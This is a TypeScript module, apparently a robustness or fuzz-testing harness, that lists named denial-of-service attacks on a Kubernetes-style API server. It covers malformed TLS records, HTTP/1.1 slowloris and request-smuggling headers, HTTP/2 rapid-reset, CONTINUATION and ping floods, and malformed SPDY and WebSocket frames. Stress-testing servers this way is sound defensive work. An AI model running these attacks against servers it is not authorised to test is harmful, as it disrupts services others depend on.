// Attacks on a cluster's address, by name. Each takes a target, chance with a
// seed, and how often to do it; it is over when it has let go of everything.
// What becomes of the attacker is nobody's concern; what becomes of the server
// is for those who run the attacks to see.

import { Buffer } from "node:buffer";
import type { Duplex } from "node:stream";
import type { SeededRandom } from "../../runtime/random.ts";
import {
  connectTcp,
  connectTls,
  drain,
  getHeaders,
  headerBlock,
  http2Frame,
  leaveUnread,
  openTunnel,
  PREFACE,
  send,
  type Target,
} from "./connections.ts";
import {
  END_HEADERS,
  END_STREAM,
  get,
  HTTP2,
  LISTS,
  listWithout,
  NO_WINDOWS,
  WIDE_OPEN,
} from "./http2_requests.ts";
import { Windows } from "./windows.ts";

/** An attack: `count` is how many connections, requests or frames it is worth. */
export type Attack = (target: Target, random: SeededRandom, count: number) => Promise<void>;

const AT_ONCE = 50;
const LET_GO_MS = 250;

/** Runs `act` so many times, some at once; what fails is the attacker's bad luck. */
async function times(count: number, act: (i: number) => Promise<void>): Promise<void> {
  let next = 0;
  const worker = async () => {
    while (next < count) await act(next++).catch(() => {});
  };
  await Promise.all(Array.from({ length: Math.min(AT_ONCE, count) }, worker));
}

function below(random: SeededRandom, limit: number): number {
  return Math.floor(random.next() * limit);
}

function noise(random: SeededRandom, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => below(random, 256)));
}

/** Does something with a connection, then lets go of it. */
async function with_(
  opening: Promise<Duplex>,
  act: (socket: Duplex) => Promise<unknown> | unknown,
): Promise<void> {
  const socket = await opening;
  try {
    await act(socket);
    await drain(socket, LET_GO_MS);
  } finally {
    socket.destroy();
  }
}

const FRAME_BYTES = 16 * 1024;
const MAPS = "/api/v1/namespaces/default/configmaps";
/** A little below what the server takes of one request. */
const BODY_BYTES = 2_900_000;
const LARGE_BODY = Buffer.alloc(BODY_BYTES, "{");

/** Does something with so many connections, and lets go of them when it is done with all. */
async function together(
  count: number,
  act: (socket: Duplex) => Promise<unknown>,
  open: () => Promise<Duplex>,
): Promise<void> {
  const sockets: Duplex[] = [];
  try {
    await times(count, async () => void sockets.push(await open()));
    await Promise.all(sockets.map((socket) => act(socket).catch(() => {})));
    await new Promise((next) => setTimeout(next, LET_GO_MS));
  } finally {
    for (const socket of sockets) socket.destroy();
  }
}

const tls: Record<string, Attack> = {
  "TLS: noise": (target, random, count) =>
    times(
      count,
      () =>
        with_(connectTcp(target), (socket) => send(socket, noise(random, 1 + below(random, 500)))),
    ),
  "TLS: records that lie": (target, random, count) =>
    times(count, () =>
      with_(connectTcp(target), async (socket) => {
        const record = noise(random, 5 + below(random, 300));
        record.set([22, 3, below(random, 5), 0xff, below(random, 256)]);
        if (below(random, 2) === 0) record.set([below(random, 256), 3, 3, 0, 2]);
        await send(socket, record);
      })),
  "TLS: hello cut short": (target, random, count) =>
    times(count, () =>
      with_(connectTcp(target), async (socket) => {
        const hello = Buffer.concat([
          Buffer.from([22, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3]),
          noise(random, 100),
        ]);
        for (let at = 0; at < hello.length; at += 20) {
          await send(socket, hello.subarray(at, at + 20));
        }
      })),
  "TLS: plain HTTP": (target, _random, count) =>
    times(
      count,
      () =>
        with_(connectTcp(target), (socket) => send(socket, Buffer.from("GET / HTTP/1.1\r\n\r\n"))),
    ),
  "TLS: noise after the handshake": (target, random, count) =>
    times(
      count,
      (i) =>
        with_(connectTls(target, i % 2 === 0 ? "h2" : "http/1.1"), (socket) =>
          send(socket, noise(random, 1 + below(random, 2_000)))),
    ),
};

const http1: Record<string, Attack> = {
  "HTTP/1.1: giant headers": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "http/1.1"), async (socket) => {
        await send(socket, Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n"));
        const line = Buffer.from(`X: ${"y".repeat(64 * 1024)}\r\n`);
        for (let i = 0; i < 64; i++) if (!await send(socket, line)) return;
      })),
  "HTTP/1.1: headers without end": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "http/1.1"), async (socket) => {
        await send(socket, Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n"));
        for (let i = 0; i < 5_000; i++) {
          if (!await send(socket, Buffer.from(`X-${i}: y\r\n`))) return;
        }
      })),
  "HTTP/1.1: slow writers": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "http/1.1"), async (socket) => {
        const text =
          "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\nContent-Length: 99999\r\n\r\n{";
        for (const byte of text) {
          if (!await send(socket, Buffer.from(byte))) return;
          await new Promise((next) => setTimeout(next, 2));
        }
      })),
  "HTTP/1.1: bodies that lie": (target, random, count) =>
    times(count, () =>
      with_(connectTls(target, "http/1.1"), (socket) => {
        const lies = [
          "Content-Length: -1",
          "Content-Length: 5\r\nTransfer-Encoding: chunked",
          "Transfer-Encoding: chunked\r\n\r\nfffffffffffffff\r\n",
          "Content-Length: 99999999999999999999",
        ];
        const lie = lies[below(random, lies.length)];
        return send(
          socket,
          Buffer.from(`POST /api/v1/nodes HTTP/1.1\r\nHost: x\r\n${lie}\r\n\r\n{}`),
        );
      })),
  "HTTP/1.1: slow readers": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "http/1.1"), async (socket) => {
        leaveUnread(socket);
        const request = "GET /api/v1/configmaps HTTP/1.1\r\nHost: x\r\n\r\n";
        await send(socket, Buffer.from(request.repeat(20)));
        await new Promise((next) => setTimeout(next, LET_GO_MS));
      })),
  "HTTP/1.1: different lists that are not read": (target, _random, count) =>
    times(count, (i) =>
      with_(connectTls(target, "http/1.1"), async (socket) => {
        leaveUnread(socket);
        for (let j = 0; j < 20; j++) {
          const request = `GET ${listWithout((20 * i + j) % LISTS)} HTTP/1.1\r\nHost: x\r\n\r\n`;
          if (!await send(socket, Buffer.from(request))) return;
        }
        await new Promise((next) => setTimeout(next, LET_GO_MS));
      })),
  "HTTP/1.1: large bodies that do not end": (target, _random, count) =>
    together(count, (socket) => {
      const head = `POST ${MAPS} HTTP/1.1\r\nHost: x\r\nContent-Length: ${BODY_BYTES + 1}\r\n\r\n`;
      return send(socket, Buffer.concat([Buffer.from(head), LARGE_BODY]));
    }, () => connectTls(target, "http/1.1")),
};

const http2: Record<string, Attack> = {
  "HTTP/2: noise as frames": (target, random, count) =>
    times(count, () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, PREFACE);
        for (let i = 0; i < 10; i++) {
          const payload = noise(random, below(random, 200));
          const stream = below(random, 2) === 0 ? 0 : below(random, 9);
          const frame = http2Frame(below(random, 12), below(random, 256), stream, payload);
          if (!await send(socket, frame)) return;
        }
      })),
  "HTTP/2: headers that never end": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, Buffer.concat([PREFACE, get(target, 1, "/", 0)]));
        const more = headerBlock({ x: "y".repeat(8_000) });
        for (let i = 0; i < 2_000; i++) {
          if (!await send(socket, http2Frame(HTTP2.continuation, 0, 1, more))) return;
        }
      })),
  "HTTP/2: giant headers": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "h2"), async (socket) => {
        const all = { ...getHeaders(target, "/"), x: "y".repeat(16_000) };
        await send(socket, PREFACE);
        for (let i = 0; i < 50; i++) {
          const block = headerBlock(all);
          if (
            !await send(
              socket,
              http2Frame(HTTP2.headers, END_HEADERS | END_STREAM, 2 * i + 1, block),
            )
          ) return;
        }
      })),
  "HTTP/2: rapid resets": (target, _random, count) =>
    times(Math.ceil(count / 1_000), () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, PREFACE);
        socket.resume();
        const cancel = Buffer.from([0, 0, 0, 8]);
        for (let i = 0; i < 1_000; i += 20) {
          const frames: Buffer[] = [];
          for (let j = i; j < i + 20; j++) {
            const stream = 2 * j + 1;
            frames.push(
              get(target, stream, "/api/v1/configmaps"),
              http2Frame(HTTP2.reset, 0, stream, cancel),
            );
          }
          if (!await send(socket, Buffer.concat(frames))) return;
        }
      })),
  "HTTP/2: streams that are not read": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
        for (let i = 0; i < 200; i++) {
          if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps"))) return;
        }
      })),
  "HTTP/2: watches that are not read": (target, _random, count) =>
    times(count, () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
        for (let i = 0; i < 200; i++) {
          if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps?watch=true"))) return;
        }
      })),
  "HTTP/2: different lists that are not read": (target, _random, count) =>
    times(count, (i) =>
      with_(connectTls(target, "h2"), async (socket) => {
        leaveUnread(socket);
        await send(socket, WIDE_OPEN);
        for (let j = 0; j < 75; j++) {
          if (!await send(socket, get(target, 2 * j + 1, listWithout((75 * i + j) % LISTS)))) {
            return;
          }
        }
        await new Promise((next) => setTimeout(next, LET_GO_MS));
      })),
  "HTTP/2: a thousand watches on each connection that are not read": (target, _random, count) =>
    together(Math.ceil(count / 20), async (socket) => {
      socket.resume();
      await send(socket, Buffer.concat([PREFACE, NO_WINDOWS]));
      for (let i = 0; i < 1_000; i++) {
        if (!await send(socket, get(target, 2 * i + 1, "/api/v1/configmaps?watch=true"))) return;
      }
    }, () => connectTls(target, "h2")),
  "HTTP/2: large bodies that do not end": (target, _random, count) =>
    together(Math.ceil(count / 2), async (socket) => {
      const windows = new Windows(socket);
      await send(socket, PREFACE);
      const streams = Array.from({ length: 10 }, (_, i) => 2 * i + 1);
      const block = headerBlock({ ...getHeaders(target, MAPS), ":method": "POST" });
      for (const stream of streams) {
        await send(socket, http2Frame(HTTP2.headers, END_HEADERS, stream, block));
      }
      const data = LARGE_BODY.subarray(0, FRAME_BYTES);
      for (let sent = 0; sent < BODY_BYTES; sent += FRAME_BYTES) {
        for (const stream of streams) {
          if (!await windows.take(stream, FRAME_BYTES)) return;
          if (!await send(socket, http2Frame(HTTP2.data, 0, stream, data))) return;
        }
      }
    }, () => connectTls(target, "h2")),
  "HTTP/2: pings and settings": (target, _random, count) =>
    times(Math.ceil(count / 1_000), () =>
      with_(connectTls(target, "h2"), async (socket) => {
        await send(socket, PREFACE);
        leaveUnread(socket);
        const ping = http2Frame(HTTP2.ping, 0, 0, Buffer.alloc(8));
        const settings = http2Frame(HTTP2.settings, 0, 0, Buffer.alloc(0));
        const both = Buffer.concat(Array.from({ length: 20 }, () => [ping, settings]).flat());
        for (let i = 0; i < 1_000; i += 20) if (!await send(socket, both)) return;
      })),
  "HTTP/2: a flood of requests": (target, _random, count) =>
    times(Math.ceil(count / 200), () =>
      with_(connectTls(target, "h2"), async (socket) => {
        socket.resume();
        await send(socket, PREFACE);
        for (let i = 0; i < 200; i++) {
          if (
            !await send(
              socket,
              get(target, 2 * i + 1, "/api/v1/namespaces/default/configmaps/bulk-1"),
            )
          ) return;
        }
        await drain(socket, 1_000);
      })),
};

function spdySyn(stream: number, block: Buffer): Buffer {
  const head = Buffer.alloc(18);
  head.writeUInt32BE(0x80030001);
  head.writeUInt32BE(10 + block.length, 4);
  head.writeUInt32BE(stream, 8);
  return Buffer.concat([head, block]);
}

const tunnels: Record<string, Attack> = {
  "SPDY: noise": (target, random, count) =>
    times(
      count,
      () =>
        with_(openTunnel(target, "spdy"), (socket) =>
          send(socket, noise(random, 1 + below(random, 500)))),
    ),
  "SPDY: frames that lie": (target, random, count) =>
    times(count, () =>
      with_(openTunnel(target, "spdy"), async (socket) => {
        for (let i = 0; i < 10; i++) {
          const frame = noise(random, 8 + below(random, 100));
          frame.set(
            [0x80, 3, 0, below(random, 12), 0, 0xff, 0xff, 0xff].slice(0, 4 + below(random, 5)),
          );
          if (!await send(socket, frame)) return;
        }
      })),
  "SPDY: streams that open with noise": (target, random, count) =>
    times(count, () =>
      with_(openTunnel(target, "spdy"), async (socket) => {
        for (let i = 0; i < 1_000; i++) {
          if (!await send(socket, spdySyn(2 * i + 1, noise(random, 20)))) return;
        }
      })),
  "SPDY: endless data for nobody": (target, _random, count) =>
    times(count, () =>
      with_(openTunnel(target, "spdy"), async (socket) => {
        leaveUnread(socket);
        const frame = Buffer.alloc(8 + 1_000);
        for (let i = 1; i < 5_000; i++) {
          frame.writeUInt32BE(i);
          frame.writeUInt32BE(1_000, 4);
          if (!await send(socket, Buffer.from(frame))) return;
        }
      })),
  "WebSocket: noise": (target, random, count) =>
    times(
      count,
      (i) =>
        with_(openTunnel(target, i % 2 === 0 ? "tunnel" : "channels"), (socket) =>
          send(socket, noise(random, 1 + below(random, 500)))),
    ),
  "WebSocket: giant frames": (target, random, count) =>
    times(
      count,
      (i) =>
        with_(openTunnel(target, i % 2 === 0 ? "tunnel" : "channels"), async (socket) => {
          const head = Buffer.alloc(14);
          head.set([0x82, 0xff]);
          head.writeBigUInt64BE(BigInt(2 + below(random, 2 ** 20)) ** 3n, 2);
          await send(socket, head);
          for (let j = 0; j < 64; j++) if (!await send(socket, Buffer.alloc(64 * 1024))) return;
        }),
    ),
  "WebSocket: pings without end": (target, _random, count) =>
    times(count, () =>
      with_(openTunnel(target, "channels"), async (socket) => {
        leaveUnread(socket);
        const ping = Buffer.concat([Buffer.from([0x89, 0xfd, 0, 0, 0, 0]), Buffer.alloc(125)]);
        const many = Buffer.concat(Array.from({ length: 100 }, () => ping));
        for (let i = 0; i < 1_000; i++) if (!await send(socket, many)) return;
      })),
};

/** All attacks but those by connections that say nothing. */
export const ATTACKS: Readonly<Record<string, Attack>> = { ...tls, ...http1, ...http2, ...tunnels };
